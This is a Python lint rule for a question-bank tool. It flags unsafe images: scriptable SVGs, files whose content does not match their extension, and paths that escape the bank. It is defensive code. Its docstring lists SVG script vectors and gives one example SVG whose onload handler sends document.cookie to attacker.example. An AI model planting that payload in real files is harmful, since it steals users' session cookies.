"""Images a question references: checked as the exporters will ship them."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Iterator

from qlint.prose.views import all_text
from qlint.model import ITEM_TYPES, Question
from qlint.rules import Finding, rule


def _root(q: Question, bank: Path) -> Path:
    """Where the question's images must stay: the bank, or the question's own folder when the
    question lies outside the bank (a file checked on its own)."""
    folder = os.path.realpath(os.path.dirname(os.path.abspath(q.path)))
    return bank if folder == str(bank) or folder.startswith(str(bank) + os.sep) else Path(folder)


@rule("S007", "unsafe-image", "error", types=ITEM_TYPES, cases=True,
      source="SVG 2 §15 (scripting) and §5.6 (external references); WHATWG MIME Sniffing §7.1 (image signatures)")
def unsafe_image(q: Question, ctx) -> Iterator[Finding]:
    """An image the exports would refuse: an SVG that can run code or fetch files, a file whose
    content is not what its name says, or a path that is missing or leaves the bank.

    ## What it does
    Reads every Markdown image (`![alt](path)`) in the stem, trap, options and explanation,
    resolves the path from the question's folder as the exporters do, and reports, at the path:
    - an SVG with a `<script>`, `<foreignObject>`, `<iframe>`/`<embed>`/`<object>` element, an
      event handler (`onload=`, `onclick=`...), a `javascript:` URL, an `href`/`xlink:href` or
      CSS `url(...)`/`@import` to anything but an `#id` in the same file, a `<?xml-stylesheet?>`,
      a DOCTYPE or entity (never expanded), or XML that does not parse;
    - a `.png`, `.jpg`/`.jpeg`, `.gif` or `.webp` file whose first bytes are not that format, and
      any other file type;
    - a path that does not exist or leads out of the bank.

    ## Why it matters
    The HTML site, QTI, Canvas, Moodle and JSON exports copy images to learners. An SVG is a
    document: opened directly, or inlined by a player, its script runs in the learner's browser.
    A file renamed `.png` may be HTML that a browser opening it directly renders. Every exporter
    refuses such an image even under `--force`; this rule says so at `qlint check` time, at the
    line of the reference.

    ## Example
    ```yaml
    stem: |
      ![Architecture](img/arch.svg)
    ```
    where `img/arch.svg` starts `<svg onload="fetch('https://attacker.example/'+document.cookie)">`.

    ## Fix
    Re-export the figure from the drawing tool as plain SVG (no scripts, links or embedded HTML;
    "optimised" or "plain" SVG in most tools) or as PNG, and give the file the right extension.
    """
    if "![" not in all_text(q):  # every Markdown image starts with "![": most questions have none
        return
    # imported here: markdown-it and lxml are only needed by questions with images
    from qlint.markup import image_paths
    from qlint.media_safety import resolve_media
    from qlint.model import text_fields
    from qlint.files import UnsafePathError
    from qlint.media_safety import UnsafeImageError

    root = _root(q, ctx.config.bank_dir)
    for pointer, text in text_fields(q):
        for ref in image_paths(text):
            try:
                resolve_media(q.path, ref, root)
            except (UnsafePathError, FileNotFoundError, UnsafeImageError) as exc:
                yield Finding(pointer, f"{exc}; exports refuse it", within=ref)
